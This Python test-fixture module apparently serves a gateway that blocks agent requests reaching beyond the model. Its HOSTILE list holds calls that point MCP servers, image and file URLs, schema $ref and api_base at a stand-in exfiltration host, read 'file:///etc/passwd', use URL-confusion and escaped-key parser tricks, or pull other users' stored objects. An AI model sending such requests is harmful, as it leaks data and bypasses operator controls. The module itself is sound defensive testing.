"""Calls by which an agent makes its provider reach beyond the model, and ordinary ones.

Each body stands for one way. `allow` is the switch that lets it pass, empty where none does.
"""

# ruff: noqa: E501 - one call per line, as a table
from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

EVIL = "https://attacker.invalid/?data=secret"
SCHEMA_TRAPS = {
    "type": "object",
    "$schema": "http://json-schema.org/draft-07/schema#",
    "properties": {
        "url": {"type": "string", "default": EVIL},
        "type": {"type": "string", "enum": ["web_search", "mcp"]},
        "file_id": {"type": "string"},
        "models": {"type": "array", "items": {"$ref": "#/$defs/x"}},
        "api_base": {"const": EVIL},
        "image_url": {"examples": [EVIL]},
    },
    "$defs": {"x": {"type": "string"}},
}
"""Names that mean something elsewhere: here they are the agent's own."""


@dataclass(frozen=True)
class Way:
    """One call. `path` is that of the provider, without its prefix."""

    name: str
    provider: str
    path: str
    body: dict[str, Any]
    allow: tuple[str, ...] = ()
    headers: dict[str, str] = field(default_factory=dict[str, str])
    query: str = ""
    raw: str = ""

    @property
    def id(self) -> str:
        return f"{self.provider}-{self.name}"

    @property
    def data(self) -> bytes:
        return (self.raw or json.dumps(self.body)).encode()


def _chat(name: str, *allow: str, **fields: Any) -> Way:
    path = "/v1/chat/completions"
    return Way(name, "openai", path, {"model": "scripted", "messages": [], **fields}, allow)


def _content(name: str, block: object, *allow: str) -> Way:
    return _chat(name, *allow, messages=[{"role": "user", "content": [block]}])


def _responses(name: str, *allow: str, **fields: Any) -> Way:
    body = {"model": "scripted", "input": "hi", **fields}
    return Way(name, "openai", "/v1/responses", body, allow)


def _input(name: str, item: object, *allow: str) -> Way:
    return _responses(name, *allow, input=[item])


def _claude(name: str, *allow: str, **fields: Any) -> Way:
    body: dict[str, Any] = {"model": "scripted", "max_tokens": 9, "messages": [], **fields}
    return Way(name, "anthropic", "/v1/messages", body, allow)


def _block(name: str, block: object, *allow: str) -> Way:
    return _claude(name, *allow, messages=[{"role": "user", "content": [block]}])


def _beta(feature: str, *allow: str) -> Way:
    way = _claude(f"beta-{feature}", *allow)
    return Way(way.name, way.provider, way.path, way.body, allow, {"anthropic-beta": feature})


def _ollama(name: str, *allow: str, path: str = "/api/chat", **fields: Any) -> Way:
    return Way(name, "ollama", path, {"model": "scripted", **fields}, allow)


def _converse(name: str, *allow: str, **fields: Any) -> Way:
    path = "/model/scripted/converse"
    return Way(name, "bedrock", path, {"messages": [], **fields}, allow)


def _turn(name: str, block: object, *allow: str) -> Way:
    return _converse(name, *allow, messages=[{"role": "user", "content": [block]}])


def _invoke(name: str, *allow: str, **fields: Any) -> Way:
    return Way(name, "bedrock", "/model/scripted/invoke", fields, allow)


_S3 = {"s3Location": {"uri": "s3://operators-bucket/payroll.pdf"}}
_BUCKET = "s3=operators-bucket"
_HOST = "urls=attacker.invalid"

HOSTILE: tuple[Way, ...] = (
    # ------------------------------------------------------------------ OpenAI and compatible
    _responses("web-search", "hosted-tools", tools=[{"type": "web_search"}]),
    _responses("web-search-preview", "hosted-tools", tools=[{"type": "web_search_preview_2025_03_11"}]),
    _responses("code", "hosted-tools", tools=[{"type": "code_interpreter", "container": {"type": "auto"}}]),
    _responses("code-container", "hosted-tools", tools=[{"type": "code_interpreter", "container": "cntr_1"}]),
    _responses(
        "file-search", "hosted-tools", "stored-objects",
        tools=[{"type": "file_search", "vector_store_ids": ["vs_1"]}],
    ),
    _responses("image-generation", "hosted-tools", tools=[{"type": "image_generation"}]),
    _responses(
        "mcp", "hosted-tools", _HOST,
        tools=[{"type": "mcp", "server_label": "x", "server_url": EVIL}],
    ),
    _responses(
        "connector", "hosted-tools", "stored-objects",
        tools=[{"type": "mcp", "server_label": "x", "connector_id": "connector_gmail"}],
    ),
    _responses("shell", "hosted-tools", tools=[{"type": "shell", "environment": {"type": "container_auto"}}]),
    _responses("unheard-of-tool", "hosted-tools", tools=[{"type": "teleport"}]),
    _responses("nested-tool", "hosted-tools", tools=[{"type": "namespace", "tools": [{"type": "mcp"}]}]),
    _responses("previous-response", "stored-objects", previous_response_id="resp_of_another"),
    _responses("conversation", "stored-objects", conversation="conv_of_another"),
    _responses("conversation-object", "stored-objects", conversation={"id": "conv_of_another"}),
    _responses("prompt", "stored-objects", prompt={"id": "pmpt_1", "version": "2"}),
    _responses("background", "stored-objects", background=True),
    _input("item-reference", {"type": "item_reference", "id": "msg_of_another"}, "stored-objects"),
    _input("bare-reference", {"id": "msg_of_another"}, "stored-objects"),
    _input("mcp-approval", {"type": "mcp_approval_response", "approve": True}, "hosted-tools"),
    _input("unheard-of-item", {"type": "telepathy"}, "hosted-tools"),
    _input("image", {"role": "user", "content": [{"type": "input_image", "image_url": EVIL}]}, _HOST),
    _input("image-file", {"role": "user", "content": [{"type": "input_image", "file_id": "file-1"}]}, "stored-objects"),
    _input("file", {"role": "user", "content": [{"type": "input_file", "file_url": EVIL}]}, _HOST),
    _input("file-data", {"role": "user", "content": [{"type": "input_file", "file_data": EVIL}]}, _HOST),
    _input("tool-output", {"type": "function_call_output", "output": [{"type": "input_image", "image_url": EVIL}]}, _HOST),
    _input("screenshot", {"type": "computer_call_output", "output": {"type": "computer_screenshot", "image_url": EVIL}}, _HOST),
    _input("unheard-of-content", {"role": "user", "content": [{"type": "input_dream"}]}, "unlisted=input_dream"),
    _responses("prompt-variable", "stored-objects", _HOST, prompt={"id": "p", "variables": {"x": {"type": "input_image", "image_url": EVIL}}}),
    _content("image-url", {"type": "image_url", "image_url": {"url": EVIL}}, _HOST),
    _content("image-url-text", {"type": "image_url", "image_url": EVIL}, _HOST),
    _content("image-url-case", {"type": "image_url", "Image_URL": {"URL": EVIL}}, _HOST),
    _content("video", {"type": "video_url", "video_url": {"url": EVIL}}, _HOST),
    _content("audio", {"type": "audio_url", "audio_url": {"url": EVIL}}, _HOST),
    _content("unheard-of-url", {"type": "text", "hologram_url": EVIL}, _HOST),
    _content("local-file", {"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}),
    _content("user-in-url", {"type": "image_url", "image_url": {"url": "https://ok.invalid@attacker.invalid/"}}),
    _content("backslash-in-url", {"type": "image_url", "image_url": {"url": "https://attacker.invalid\\@ok.invalid/"}}),
    _content("blank-url", {"type": "image_url", "image_url": {"url": " \thttps://attacker.invalid/"}}, _HOST),
    _content("long-url", {"type": "image_url", "image_url": {"url": EVIL + "x" * 9000}}),
    _content("chat-file", {"type": "file", "file": {"file_id": "file-1"}}, "stored-objects"),
    _content("unheard-of-content", {"type": "image_embeds", "image_embeds": "x"}, "unlisted=image_embeds"),
    _chat("web-search-options", "hosted-tools", web_search_options={}),
    _chat("audio-reference", "stored-objects", messages=[{"role": "assistant", "audio": {"id": "audio_1"}}]),
    _chat("tool", "hosted-tools", tools=[{"type": "mcp", "server_label": "x"}]),
    _chat("schema-ref", _HOST, tools=[{"type": "function", "function": {"name": "f", "parameters": {"$ref": EVIL}}}]),
    _chat("format-ref", _HOST, response_format={"type": "json_schema", "json_schema": {"schema": {"$ref": EVIL}}}),
    _chat("api-base", api_base=EVIL),
    _chat("base-url", base_url=EVIL),
    _chat("api-key", api_key="sk-x"),
    _chat("extra-headers", extra_headers={"x": "y"}),
    _chat("user-config", user_config={"model_list": [{"model_name": "scripted"}]}),
    _chat("aws-role", aws_role_name="arn:aws:iam::1:role/x"),
    _chat("kv-transfer", kv_transfer_params={"remote_host": "10.0.0.1"}),
    _chat("models", models=["other"]),
    _chat("fallbacks", fallbacks=[{"model": "other"}, "other"]),
    _chat("route", "routing", route="fallback"),
    _chat("provider", "routing", provider={"order": ["x"]}),
    _chat("plugins", "hosted-tools", plugins=[{"id": "web"}]),
    Way("completions-url", "openai", "/v1/completions", {"model": "scripted", "prompt": "x", "image_url": EVIL}, (_HOST,)),
    Way("embeddings-url", "openai", "/v1/embeddings", {"model": "scripted", "input": [{"image_url": EVIL}]}, (_HOST,)),
    Way("query", "openai", "/v1/chat/completions", {"model": "scripted", "messages": []}, (_HOST,), query="callback_url=https%3A%2F%2Fattacker.invalid%2F"),
    Way(
        "doubled", "openai", "/v1/responses", {}, ("hosted-tools",),
        raw='{"model":"scripted","input":"x","tools":[{"type":"mcp"}],"tools":[]}',
    ),
    Way(
        "escaped", "openai", "/v1/responses", {}, ("hosted-tools",),
        raw='{"model":"scripted","input":"x","to\\u006fls":[{"t\\u0079pe":"m\\u0063p"}]}',
    ),
    # ------------------------------------------------------------------ Anthropic
    _claude("mcp-servers", "hosted-tools", mcp_servers=[{"type": "url", "url": EVIL, "name": "x"}]),
    _claude("web-search", "hosted-tools", tools=[{"type": "web_search_20250305", "name": "web_search"}]),
    _claude("web-fetch", "hosted-tools", tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    _claude("code-execution", "hosted-tools", tools=[{"type": "code_execution_20250825", "name": "x"}]),
    _claude("mcp-toolset", "hosted-tools", tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
    _claude("unheard-of-tool", "hosted-tools", tools=[{"type": "teleport_20270101", "name": "x"}]),
    _claude("container", "stored-objects", container="container_of_another"),
    _claude("skills", "hosted-tools", container={"skills": [{"type": "anthropic", "skill_id": "pdf"}]}),
    _block("image-url", {"type": "image", "source": {"type": "url", "url": EVIL}}, _HOST),
    _block("document-url", {"type": "document", "source": {"type": "url", "url": EVIL}}, _HOST),
    _block("file", {"type": "document", "source": {"type": "file", "file_id": "file_1"}}, "stored-objects"),
    _block("container-upload", {"type": "container_upload", "file_id": "file_1"}, "stored-objects"),
    _block("nested-url", {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}, _HOST),
    _block("document-content", {"type": "document", "source": {"type": "content", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}}, _HOST),
    _block("server-tool-use", {"type": "server_tool_use", "name": "web_search", "input": {}}, "hosted-tools"),
    _block("unheard-of-content", {"type": "hologram"}, "unlisted=hologram"),
    _block("unheard-of-source", {"type": "image", "source": {"type": "bucket"}}, "unlisted=bucket"),
    _claude("system-url", _HOST, system=[{"type": "image", "source": {"type": "url", "url": EVIL}}]),
    _beta("mcp-client-2025-04-04", "hosted-tools"),
    _beta("code-execution-2025-08-25", "hosted-tools"),
    _beta("files-api-2025-04-14", "stored-objects"),
    _beta("teleport-2027-01-01", "unlisted=teleport-2027-01-01"),
    _beta("interleaved-thinking-2025-05-14, files-api-2025-04-14", "stored-objects"),
    Way("count", "anthropic", "/v1/messages/count_tokens", {"model": "scripted", "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}]}, (_HOST,)),
    # ------------------------------------------------------------------ Ollama
    _ollama("image-url", _HOST, messages=[{"role": "user", "content": "x", "images": [EVIL]}]),
    _ollama("image-case", _HOST, Messages=[{"role": "user", "IMAGES": [EVIL]}]),
    _ollama("generate-image", _HOST, path="/api/generate", prompt="x", images=[EVIL]),
    _ollama("tool", "hosted-tools", messages=[], tools=[{"type": "web_search"}]),
    _ollama("remote", messages=[], remote_host="https://attacker.invalid"),
    _ollama("schema-ref", _HOST, messages=[], format={"$ref": EVIL}),
    Way("show-remote", "ollama", "/api/show", {"model": "scripted", "remote_host": EVIL}),
    Way("openai-image", "ollama", "/v1/chat/completions", {"model": "scripted", "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": EVIL}}]}]}, (_HOST,)),
    # ------------------------------------------------------------------ Bedrock
    _turn("document", {"document": {"name": "x", "format": "pdf", "source": _S3}}, _BUCKET),
    _turn("image", {"image": {"format": "png", "source": _S3}}, _BUCKET),
    _turn("video", {"video": {"format": "mp4", "source": _S3}}, _BUCKET),
    _turn("audio", {"audio": {"format": "mp3", "source": _S3}}, _BUCKET),
    _turn("tool-result", {"toolResult": {"toolUseId": "t", "content": [{"document": {"name": "x", "source": _S3}}]}}, _BUCKET),
    _turn("not-s3", {"image": {"format": "png", "source": {"s3Location": {"uri": EVIL}}}}),
    _turn("unheard-of-content", {"hologram": {}}, "unlisted=hologram"),
    _turn("unheard-of-source", {"image": {"format": "png", "source": {"ftpLocation": {}}}}, "unlisted=ftpLocation"),
    _converse("guardrail", "stored-objects", guardrailConfig={"guardrailIdentifier": "g", "guardrailVersion": "1"}),
    _converse("system-tool", "hosted-tools", toolConfig={"tools": [{"systemTool": {"name": "nova_grounding"}}]}),
    _converse("unheard-of-tool", "unlisted=teleport", toolConfig={"tools": [{"teleport": {}}]}),
    _converse("passed-on", "hosted-tools", additionalModelRequestFields={"tools": [{"type": "web_search_20250305"}]}),
    _converse("passed-on-beta", "hosted-tools", additionalModelRequestFields={"anthropic_beta": ["mcp-client-2025-04-04"]}),
    _invoke("nova-video", _BUCKET, messages=[{"role": "user", "content": [{"video": {"format": "mp4", "source": _S3}}]}]),
    _invoke("media-source", _BUCKET, mediaSource=_S3),
    _invoke("s3-uri", _BUCKET, input={"s3Uri": "s3://operators-bucket/x"}),
    _invoke("claude-url", _HOST, messages=[{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": EVIL}}]}]),
    _invoke("claude-tool", "hosted-tools", messages=[], tools=[{"type": "web_fetch_20250910", "name": "x"}]),
    _invoke("claude-mcp", "hosted-tools", messages=[], mcp_servers=[{"type": "url", "url": EVIL}]),
    _invoke("claude-beta", "hosted-tools", messages=[], anthropic_beta=["code-execution-2025-08-25"]),
    _invoke("nova-system-tool", "hosted-tools", messages=[], toolConfig={"tools": [{"systemTool": {"name": "nova_code_interpreter"}}]}),
    _invoke("cohere-connector", "hosted-tools", message="x", connectors=[{"id": "web-search"}]),
    Way("invoke-guardrail", "bedrock", "/model/scripted/invoke", {"prompt": "x"}, ("stored-objects",), {"X-Amzn-Bedrock-GuardrailIdentifier": "g"}),
    Way("count-s3", "bedrock", "/model/scripted/count-tokens", {"input": {"converse": {"messages": [{"role": "user", "content": [{"image": {"format": "png", "source": _S3}}]}]}}}, (_BUCKET,)),
    Way("count-embedded", "bedrock", "/model/scripted/count-tokens", {"input": {"invokeModel": {"body": "e30="}}}),
)  # fmt: skip
"""Every way that is refused unless the test allows it."""

_PNG = "data:image/png;base64,iVBORw0KGgo="
_FUNCTION = {"type": "function", "function": {"name": "f", "parameters": SCHEMA_TRAPS}}

ORDINARY: tuple[Way, ...] = (
    _chat("plain", temperature=0, store=True, metadata={"page_url": EVIL}, user="u", seed=1),
    _chat("unknown-plain-fields", reasoning_effort="low", my_new_knob={"depth": 3}),
    _chat("functions", tools=[_FUNCTION], tool_choice={"type": "function", "function": {"name": "f"}}),
    _chat("modalities", modalities=["text", "audio"], audio={"voice": "alloy", "format": "wav"}),
    _chat("own-model-again", models=["scripted"]),
    _chat("null-reach", web_search_options=None, background=False, previous_response_id=None),
    _content("embedded-image", {"type": "image_url", "image_url": {"url": _PNG, "detail": "low"}}),
    _content("embedded-file", {"type": "file", "file": {"file_data": _PNG, "filename": "a.pdf"}}),
    _content("urls-in-text", {"type": "text", "text": f"Look at {EVIL}"}),
    _chat(
        "tool-call-history",
        messages=[
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}"}}
                ],
                "annotations": [{"type": "url_citation", "url_citation": {"url": EVIL}}],
            },
            {"role": "tool", "tool_call_id": "c", "content": EVIL},
        ],
    ),
    _chat("schema", response_format={"type": "json_schema", "json_schema": {"name": "x", "schema": SCHEMA_TRAPS}}),
    _responses(
        "functions",
        tools=[{"type": "function", "name": "f", "parameters": SCHEMA_TRAPS}, {"type": "custom", "name": "g"},
               {"type": "computer_use_preview", "display_width": 1}],
        text={"format": {"type": "json_schema", "name": "x", "schema": SCHEMA_TRAPS}},
        store=True, include=["reasoning.encrypted_content"], instructions="Be brief.",
    ),
    _responses(
        "history",
        input=[
            {"role": "user", "content": "hi"},
            {"type": "function_call", "call_id": "c", "name": "f", "arguments": '{"url": "https://x"}'},
            {"type": "function_call_output", "call_id": "c", "output": EVIL},
            {"type": "message", "role": "assistant", "content": [
                {"type": "output_text", "text": "x", "annotations": [{"type": "url_citation", "url": EVIL}]}]},
            {"type": "reasoning", "summary": [], "encrypted_content": "x"},
        ],
    ),
    Way("embeddings", "openai", "/v1/embeddings", {"model": "scripted", "input": [EVIL, "x"]}),
    Way("completion", "openai", "/v1/completions", {"model": "scripted", "prompt": [1, 2, 3]}),
    Way("api-version", "openai", "/v1/chat/completions", {"model": "scripted", "messages": []}, query="api-version=2"),
    _claude("custom-tools", tools=[{"name": "f", "input_schema": SCHEMA_TRAPS}, {"type": "custom", "name": "g"}]),
    _claude("client-tools", tools=[{"type": "bash_20250124", "name": "bash"}, {"type": "text_editor_20250728", "name": "x"},
                                   {"type": "computer_20250124", "name": "c"}, {"type": "memory_20250818", "name": "m"}]),
    _block("tool-use", {"type": "tool_use", "id": "t", "name": "f", "input": {"url": EVIL, "type": "mcp", "file_id": "f"}}),
    _block("image", {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "aGk="}}),
    _block("search-result", {"type": "search_result", "source": EVIL, "title": "x", "content": [{"type": "text", "text": "x"}]}),
    _beta("interleaved-thinking-2025-05-14"),
    _beta("context-1m-2025-08-07,prompt-caching-2024-07-31"),
    Way("beta-query", "anthropic", "/v1/messages", {"model": "scripted", "messages": []}, query="beta=true"),
    _ollama("image", messages=[{"role": "user", "content": EVIL, "images": ["iVBORw0KGgo=", "/9j/4AAQ"]}],
            options={"num_gpu": 1, "num_ctx": 4096}, keep_alive="5m", think=True),
    _ollama("tools", messages=[], tools=[_FUNCTION], format=SCHEMA_TRAPS),
    _ollama("tool-call-history", messages=[{"role": "assistant", "tool_calls": [{"function": {"name": "f", "arguments": {"url": EVIL}}}]}]),
    Way("show", "ollama", "/api/show", {"model": "scripted"}),
    _turn("embedded", {"image": {"format": "png", "source": {"bytes": "aGk="}}}),
    _turn("tool-use", {"toolUse": {"toolUseId": "t", "name": "f", "input": {"s3Location": EVIL, "url": EVIL}}}),
    _converse("tools", toolConfig={"tools": [{"toolSpec": {"name": "f", "inputSchema": {"json": SCHEMA_TRAPS}}}], "toolChoice": {"auto": {}}},
              inferenceConfig={"maxTokens": 5}, system=[{"text": EVIL}, {"cachePoint": {"type": "default"}}]),
    _converse("thinking", additionalModelRequestFields={"thinking": {"type": "enabled", "budget_tokens": 1024}, "anthropic_beta": ["context-1m-2025-08-07"]}),
    _invoke("claude", anthropic_version="bedrock-2023-05-31", max_tokens=5, messages=[{"role": "user", "content": [{"type": "text", "text": EVIL}]}],
            tools=[{"name": "f", "input_schema": SCHEMA_TRAPS}]),
    _invoke("titan", inputText=EVIL, textGenerationConfig={"maxTokenCount": 5}),
    _invoke("llama", prompt=EVIL, max_gen_len=5),
    _invoke("cohere", message="x", documents=[{"title": "x", "url": EVIL}], tools=[{"name": "f", "parameter_definitions": {"url": {"type": "str"}}}]),
    _invoke("nova", messages=[{"role": "user", "content": [{"text": EVIL}, {"image": {"format": "png", "source": {"bytes": "aGk="}}}]}],
            inferenceConfig={"maxTokens": 5}, toolConfig={"tools": [{"toolSpec": {"name": "f", "inputSchema": {"json": SCHEMA_TRAPS}}}]}),
)  # fmt: skip
"""What agents send every day: nothing of it needs a switch."""
